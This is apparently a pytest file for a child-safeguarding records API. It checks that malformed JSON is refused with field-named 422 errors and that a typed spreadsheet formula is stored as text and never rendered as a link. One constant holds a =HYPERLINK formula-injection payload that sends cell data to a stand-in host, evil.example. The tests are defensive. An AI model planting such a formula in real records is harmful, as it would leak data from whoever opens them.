"""Recording through the API refuses what the import refuses, with a 422 that names the record and
the field, and writes nothing: NaN and Infinity, a member given twice, a child linked to an event
before her birth. A formula typed into a record is kept as typed and shown as text, never a link."""

from __future__ import annotations

import json
import math
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from childfirst.domain.roles import Role
from childfirst.store.database import Database
from childfirst.store.models import Event, ImportBatch, Person
from tests.factories import person
from tests.web.area import Area, build_area, domestic_abuse, police
from tests.web.conftest import Browser

FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Open the full record")'


@pytest.fixture
def area(db: Database, tmp_path: Path) -> Area:
    return build_area(db, tmp_path)


@pytest.fixture
def officer(area: Area) -> Browser:
    return area.browser("pc.response", Role.RESPONSE_OFFICER)


def _written(db: Database) -> list[int]:
    """How many people, events and import batches are stored."""
    with db.session() as session:
        return [
            int(session.scalar(select(func.count()).select_from(t)) or 0)
            for t in (Person, Event, ImportBatch)
        ]


def _post(officer: Browser, path: str, text: str) -> Any:
    return officer.client.post(
        path,
        content=text.encode(),
        headers={"content-type": "application/json", "X-CSRF-Token": officer.csrf},
    )


# JSON text as a careless or hostile sender writes it: Python's json writes NaN and Infinity.
BAD_EVENTS = {
    "NaN": (json.dumps(domestic_abuse(details={"injuries": math.nan})), "details.injuries"),
    "Infinity": (json.dumps(domestic_abuse(details={"calls": math.inf})), "details.calls"),
    "-Infinity": (json.dumps(domestic_abuse(details={"calls": -math.inf})), "details.calls"),
    "a member twice": (
        json.dumps(domestic_abuse()).replace('"summary":', '"event_type": "theft", "summary":'),
        "event_type",
    ),
    "a member twice, in a link": (
        json.dumps(domestic_abuse()).replace('"person": "P1"', '"person": "P1", "person": "P9"'),
        "links.2.person",
    ),
    "a child present before her birth": (
        json.dumps(domestic_abuse(occurred_at="2015-11-24T21:40:00")),
        "links.2.person",
    ),
}


@pytest.mark.parametrize("name", BAD_EVENTS)
def test_an_event_the_import_would_refuse_is_a_422_naming_the_field(
    area: Area, officer: Browser, name: str
) -> None:
    text, field = BAD_EVENTS[name]
    before = _written(area.db)
    response = _post(officer, "/api/v1/events", text)
    assert response.status_code == 422, response.text
    assert [e["where"] for e in response.json()["errors"]] == [f"records.0.{field}"]
    assert _written(area.db) == before


def test_a_batch_names_the_record_with_a_member_twice(area: Area, officer: Browser) -> None:
    newcomer = json.dumps(person("P21", "Lee", "Grant", date_of_birth="1990-01-01"))
    twice = newcomer.replace('"sex":', '"date_of_birth": "2019-01-01", "sex":')
    before = _written(area.db)
    response = _post(officer, "/api/v1/records", f'{{"records": [{newcomer}, {twice}]}}')
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert error["where"] == "records.1.date_of_birth"
    assert "given twice" in error["problem"]
    assert _written(area.db) == before


def test_a_batch_with_nan_in_one_record_writes_none_of_them(area: Area, officer: Browser) -> None:
    good = domestic_abuse("E501")
    bad = domestic_abuse("E502", details={"injuries": math.nan})
    before = _written(area.db)
    response = _post(officer, "/api/v1/records", json.dumps({"records": [good, bad]}))
    assert response.status_code == 422, response.text
    assert [e["where"] for e in response.json()["errors"]] == ["records.1.details.injuries"]
    assert _written(area.db) == before


def test_a_formula_is_kept_as_typed_and_shown_as_text_not_a_link(
    area: Area, officer: Browser
) -> None:
    event = domestic_abuse(summary=FORMULA, details={"children_present": True, "note": FORMULA})
    response = officer.post_json("/api/v1/events", event)
    assert response.status_code == 201, response.text
    with area.db.session() as session:
        stored = session.get(Event, police("event", "E100"))
        assert stored is not None
        assert (stored.summary, stored.details["note"]) == (FORMULA, FORMULA)
    page = officer.client.get(f"/incidents/{police('event', 'E100')}").text
    assert "=HYPERLINK(&#34;http://evil.example/steal?x=&#34;&amp;A1" in page
    assert 'href="http://evil.example' not in page
    assert "<a" not in page.split("=HYPERLINK", 1)[1].split("</", 1)[0]


def test_a_body_giving_its_records_twice_is_refused(area: Area, officer: Browser) -> None:
    first = json.dumps([domestic_abuse("E601")])
    second = json.dumps([domestic_abuse("E602")])
    before = _written(area.db)
    response = _post(officer, "/api/v1/records", f'{{"records": {first}, "records": {second}}}')
    assert response.status_code == 422, response.text
    assert [e["where"] for e in response.json()["errors"]] == ["records"]
    assert _written(area.db) == before
